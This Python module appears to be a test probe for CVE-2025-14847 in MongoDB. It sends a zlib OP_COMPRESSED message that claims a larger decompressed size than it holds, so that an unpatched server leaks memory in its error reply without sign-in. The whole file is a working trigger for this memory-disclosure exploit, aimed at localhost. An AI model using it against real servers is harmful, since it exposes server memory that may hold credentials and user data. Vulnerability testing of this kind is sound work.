"""Messages that claim to hold more than they do, as CVE-2025-14847 uses them.

An OP_COMPRESSED message states the size of its decompressed content. A server that
believes this reads beyond what there is, and quotes from its memory in the error that
it returns. No sign-in is needed. The layout of the bytes:
https://github.com/mongodb/specifications/blob/master/source/compression/OP_COMPRESSED.md
https://github.com/mongodb/specifications/blob/master/source/message/OP_MSG.md
"""

import socket
import struct
import zlib
from contextlib import suppress

_OP_COMPRESSED, _OP_MSG, _ZLIB = 2012, 2013, 2
_HEADER = struct.Struct("<iiii")
# Flags of OP_MSG, and the kind of section: a single document follows.
_BEFORE_THE_DOCUMENT = b"\x00\x00\x00\x00\x00"


def probe(port: int, claimed_size: int) -> bytes:
    """Send one such message; return everything answered until the server is done."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
        connection.sendall(_message(claimed_size))
        # A server that refuses a message closes the connection, perhaps in the middle
        # of it.
        with suppress(ConnectionError):
            header = connection.recv(_HEADER.size, socket.MSG_WAITALL)
            if len(header) == _HEADER.size:
                length, *_ = _HEADER.unpack(header)
                rest = length - _HEADER.size
                return header + connection.recv(rest, socket.MSG_WAITALL)
            return header
    return b""


def _message(claimed_size: int) -> bytes:
    """Return a document that begins, and claims to fill the size to its end."""
    document_size = claimed_size - len(_BEFORE_THE_DOCUMENT)
    document = struct.pack("<i", document_size) + b"\x10a\x00" + struct.pack("<i", 1)
    packed = zlib.compress(_BEFORE_THE_DOCUMENT + document)
    body = struct.pack("<iiB", _OP_MSG, claimed_size, _ZLIB) + packed
    return _HEADER.pack(_HEADER.size + len(body), 1, 0, _OP_COMPRESSED) + body
